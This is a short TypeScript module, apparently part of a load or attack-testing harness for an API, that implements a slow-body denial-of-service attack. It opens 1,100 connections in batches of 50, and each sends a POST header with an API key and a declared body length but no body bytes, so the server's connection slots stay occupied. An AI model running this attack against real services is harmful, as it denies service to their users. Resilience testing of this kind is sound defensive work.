import type { Attack } from './attack.ts';
import { withSockets, write } from './open-sockets.ts';
import { bearer, request } from './requests.ts';

/** More than the default number of slots. */
const connections = 1_100;
const atOnce = 50;

/** Begins 1,100 bodies with one key, and sends none of their bytes. */
export const stallBodies: Attack = (target) =>
  withSockets(target, async ({ open, wait, untilOver }) => {
    const head = request('POST /v1/pets', [
      bearer(target.apiKey),
      'Content-Type: application/json',
      'Content-Length: 100',
    ]);
    // In small steps, because the attack is on the slots, not on the time to accept connections.
    for (let opened = 0; opened < connections; opened += atOnce) {
      await Promise.all(Array.from({ length: atOnce }, async () => write(await open(), head)));
      await wait(50);
    }
    await untilOver();
  });
